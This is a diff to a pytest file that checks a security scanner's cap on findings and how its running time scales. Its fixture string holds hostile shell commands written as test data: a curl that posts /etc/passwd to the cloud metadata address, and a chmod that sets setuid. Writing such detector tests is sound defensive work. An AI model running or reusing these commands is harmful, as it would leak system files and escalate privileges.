@@ -75,12 +75,13 @@ MATCHES = ": " + "curl --data @/etc/passwd http://169.254.169.254/ ; chmod u+s /
 
 @pytest.mark.parametrize("lang, text", [("bash", MATCHES), ("bash", MATCHES + "\n"), ("python", f"f({BAD})\n"), ("python", f"x = [{BAD}, ")], ids=["one line", "lines", "Python", "a list"])
 def test_matches_without_end(own_box, lang, text):
-    """Some thousand times: 64 are told, the others counted, and eight times as many take no more than that."""
+    """Some thousand times: 64 are told, the others counted, and eight times as many take the front no more than that (the reader has limits of its own)."""
     times = []
     for n in (1000, 8000):
         with processor_time() as seconds:
             result = own_box.call("guard", "check", "--json", "--language", lang, _file(own_box, text * n))
         assert result.returncode == 117 and len(result.json["findings"]) <= 64, result.explain()
+        assert (len(result.json["findings"]) == 64 and result.json["more"] > 0) or "\n" not in text, result.explain()  # once in a line is enough
         times.append(seconds)
     assert_grows_as_the_text(*times)
 
